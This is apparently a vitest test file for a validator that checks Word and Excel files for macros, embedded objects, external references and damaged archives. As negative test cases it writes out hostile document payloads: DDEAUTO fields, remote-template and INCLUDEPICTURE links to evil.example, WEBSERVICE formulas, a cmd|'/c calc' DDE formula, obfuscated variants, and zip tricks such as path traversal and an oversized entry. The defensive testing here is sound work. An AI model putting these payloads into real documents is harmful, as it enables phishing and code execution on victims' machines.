import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { writeWord } from '../../test-support/write-word.ts';
import { checkOffice } from './check-office.ts';
import type { OfficeType } from './office-types.ts';

const opc = 'http://schemas.openxmlformats.org/package/2006';
const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const office = 'application/vnd.openxmlformats-officedocument';
const types = (contentTypes: string) =>
  `<Types xmlns="${opc}/content-types">${contentTypes}</Types>`;
const relations = (list: string) =>
  `<Relationships xmlns="${opc}/relationships">${list}</Relationships>`;

/** Creates a Word file with additional or replaced parts. */
function word(parts: Record<string, string | Uint8Array> = {}): Uint8Array {
  const own = unzipSync(writeWord({ body: '<w:p/>' }));
  const others = Object.entries(parts).map(([name, part]) => [
    name,
    typeof part === 'string' ? strToU8(part) : part,
  ]);
  return zipSync({ ...own, ...(Object.fromEntries(others) as Record<string, Uint8Array>) });
}
const book = (parts: Record<string, string> = {}) =>
  zipSync(
    Object.fromEntries(
      Object.entries({
        '[Content_Types].xml': types(
          `<Override PartName="/xl/workbook.xml" ContentType="${office}.spreadsheetml.sheet.main+xml"/>`,
        ),
        'xl/workbook.xml': '<workbook/>',
        ...parts,
      }).map(([name, part]) => [name, strToU8(part)]),
    ),
  );
/** A Word file whose first part has another name or length in the directory than it really has. */
function renamed(what: 'name' | 'bytes'): Uint8Array {
  const file = Buffer.from(word());
  const entry = file.indexOf(Buffer.from('PK\u0001\u0002'));
  if (what === 'name') file.write('x', file.indexOf(Buffer.from('PK\u0003\u0004')) + 31);
  else file.writeUInt32LE(20, entry + 24);
  return file;
}
const related = (list: string) => ({ 'word/_rels/document.xml.rels': relations(list) });
const link = (target: string, type = 'hyperlink') =>
  related(
    `<Relationship Id="a" Type="${relation}/${type}" Target="${target}" TargetMode="External"/>`,
  );
const text = (body: string) => ({
  'word/document.xml': `<w:document><w:body>${body}</w:body></w:document>`,
});
const problemOf = (bytes: Uint8Array, type: OfficeType = 'docx') => {
  try {
    checkOffice(bytes, type);
    return undefined;
  } catch (error) {
    return (error as Error).message;
  }
};

describe('an Office file', () => {
  it('is taken where it runs and fetches nothing', () => {
    const chart = { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': book() };
    const settings = { 'xl/printerSettings/printerSettings1.bin': 'x' };
    for (const file of [
      word(),
      word(link('https://example.com/a?b=1&amp;c=2')),
      word(link('mailto:ada@example.com')),
      word(chart),
      word({ 'word/media/image1.png': 'x', 'docProps/thumbnail.jpeg': 'x' }),
      word(text('<w:instrText> HYPERLINK "https://example.com/link" </w:instrText>')),
    ]) {
      expect(problemOf(file)).toBeUndefined();
    }
    expect(problemOf(book(settings), 'xlsx')).toBeUndefined();
  });

  it.each([
    ['a macro', word({ 'word/vbaProject.bin': 'x' })],
    [
      'a macro under another name',
      word(
        related(
          `<Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image1.png"/>`,
        ),
      ),
    ],
    [
      'a macro by its content type',
      word({
        '[Content_Types].xml': types(
          `<Override PartName="/word/document.xml" ContentType="${office}.wordprocessingml.document.main+xml"/><Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>`,
        ),
      }),
    ],
    ['an embedded object', word({ 'word/embeddings/oleObject1.bin': 'x' })],
    ['a control', word({ 'word/activeX/activeX1.xml': '<a/>' })],
    [
      'a web page in it',
      word(related(`<Relationship Id="a" Type="${relation}/aFChunk" Target="a.xml"/>`)),
    ],
    ['a program in it', word({ 'word/media/run.exe': 'x' })],
    [
      'an embedded workbook with a macro',
      word({ 'word/embeddings/a.xlsx': book({ 'xl/vbaProject.bin': 'x' }) }),
    ],
    [
      'an embedded workbook with another one in it',
      word({ 'word/embeddings/a.xlsx': book({ 'xl/embeddings/b.xlsx': 'x' }) }),
    ],
    [
      'a macro sheet in its workbook',
      word({ 'word/embeddings/a.xlsx': book({ 'xl/macrosheets/a.xml': '<a/>' }) }),
    ],
  ])('is refused with %s', (_, file) => {
    expect(problemOf(file)).toMatch(/has macros, embedded objects or add-ins/);
  });

  it.each([
    ['a template elsewhere', word(link('https://evil.example/a.dotm', 'attachedTemplate'))],
    ['a picture elsewhere', word(link('https://evil.example/a.png', 'image'))],
    ['a frame elsewhere', word(link('https://evil.example/a.htm', 'frame'))],
    ['a link to a program', word(link('file:///c:/windows/calc.exe'))],
    ['a link to a share', word(link('\\\\evil\\a'))],
    ['a link whose scheme is written in entities', word(link('&#x66;ile:///c:/a.exe'))],
    [
      'a field that starts a program',
      word(text('<w:instrText xml:space="preserve"> DDEAUTO c:\\\\a.exe </w:instrText>')),
    ],
    [
      'such a field in pieces',
      word(text('<w:instrText>D</w:instrText><w:instrText>DEAUTO x</w:instrText>')),
    ],
    ['such a simple field', word(text(`<w:fldSimple w:instr=' DDE "x"'/>`))],
    [
      'a field that fetches a picture',
      word(text('<w:instrText> INCLUDEPICTURE "https://evil.example/a" </w:instrText>')),
    ],
  ])('is refused with %s', (_, file) => {
    expect(problemOf(file)).toMatch(/refers to other files or programs/);
  });

  const code = (...parts: string[]) =>
    text(
      `<w:fldChar w:fldCharType="begin"/>${parts.map((part) => `<w:instrText>${part}</w:instrText>`).join('')}<w:fldChar w:fldCharType="end"/>`,
    );
  const page = code('PAGE')['word/document.xml'];
  const template = (attributes: string) =>
    related(`<Relationship Id="a" Type="${relation}/attachedTemplate" ${attributes}/>`);
  it.each([
    [
      'a field that fetches a picture, in pieces',
      code('INCLUDE', 'PICTURE "https://evil.example"'),
    ],
    ['one in entities', code('IN&#67;LUDETEXT "https://evil.example"')],
    ['one in a marked section', code('<![CDATA[DATABASE \\d "evil"]]>')],
    ['one behind another field', text(page + code('DD', 'EAUTO evil')['word/document.xml'])],
    ['a simple field by another prefix', text('<x:fldSimple x:instr="DDE evil"/>')],
    ['a document that is referred to', code('RD "https://evil.example"')],
    ['a link to a share in a field', code('HYPERLINK "\\\\evil\\a"')],
    [
      'a template whose mode has blanks',
      template('Target="https://evil.example" TargetMode=" External"'),
    ],
    ['a template without a mode', template('Target="https://evil.example"')],
    ['a template on a share without a mode', template('Target="\\\\evil\\a"')],
    ['a picture by its address', text('<v:imagedata o:href="https://evil.example" r:href="a"/>')],
    ['a picture by a link', text('<a:blip r:link="a"/>')],
    ['a drawing with a script', { 'word/media/a.svg': '<svg><script>evil()</script></svg>' }],
    ['a program by an action in entities', text('<a:hlinkClick action="ppaction&#58;//program"/>')],
  ])('is refused with %s', (_, parts) => {
    expect(problemOf(word(parts))).toMatch(/refers to other files or programs/);
  });

  it.each([
    '<f>_xlfn.WEBSERVICE("https://evil.example")</f>',
    '<x:f a=">">WEBSERVICE("https://evil.example")</x:f>',
    '<f>WEB&#83;ERVICE("https://evil.example")</f>',
    '<f>WEB<!-- -->SERVICE("https://evil.example")</f>',
    '<f>WEB<?a ?>SERVICE("https://evil.example")</f>',
    '<f><![CDATA[WEBSERVICE("https://evil.example")]]></f>',
    '<definedName name="a">IMAGE("https://evil.example")</definedName>',
    '<dataValidation><formula1>WEBSERVICE("https://evil.example")</formula1></dataValidation>',
    "<f>cmd|'/c calc'!A0</f>",
  ])('is refused with a formula that fetches or starts something: %s', (formula) => {
    const sheet = { 'xl/worksheets/sheet1.xml': `<worksheet>${formula}</worksheet>` };
    expect(problemOf(book(sheet), 'xlsx')).toMatch(/refers to other files or programs/);
  });

  it('is taken with words that look like such fields and formulas', () => {
    const said = '<w:t>Call (us), or see IMAGE (2) | DDE!</w:t>';
    expect(problemOf(word(text(said + page)))).toBeUndefined();
    const sheet = { 'xl/worksheets/sheet1.xml': '<f>"CALL(" &amp; A1 &amp; "a|b!"</f>' };
    expect(problemOf(book(sheet), 'xlsx')).toBeUndefined();
  });

  it.each([
    ['of another type', word(), 'xlsx'],
    ['that is cut off', word().subarray(0, 400), 'docx'],
    ['that is any archive', zipSync({ 'a.xml': strToU8('<a/>') }), 'docx'],
    [
      'with entities of its own',
      word({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }),
      'docx',
    ],
    [
      'in UTF-16',
      word({ 'word/_rels/document.xml.rels': Buffer.from('\ufeff<Relationships/>', 'utf16le') }),
      'docx',
    ],
    ['with a name that leads elsewhere', word({ '../a.xml': '<a/>' }), 'docx'],
    ['with the same name twice', word({ 'Word/document.xml': '<a/>' }), 'docx'],
    ['in another encoding', word({ 'word/a.xml': '<?xml encoding = "utf-7"?>' }), 'docx'],
    ['with a part that is longer than it says', renamed('bytes'), 'docx'],
    ['with a part of two names', renamed('name'), 'docx'],
    ['with something behind its end', Buffer.concat([word(), Buffer.from('evil')]), 'docx'],
    ['that is none at all', Buffer.from('PK\u0003\u0004'), 'docx'],
  ] as const)('is refused as damaged: one %s', (_, file, type) => {
    expect(problemOf(file, type)).toMatch(/damaged, protected by a password, or not what/);
  });

  it('is refused where it unpacks to more than it may, before it is', () => {
    const file = Buffer.from(word());
    const entry = file.indexOf(Buffer.from('PK\u0001\u0002'));
    file.writeUInt32LE(201_000_000, entry + 24);
    expect(problemOf(file)).toMatch(/too large to be checked/);
  });
});
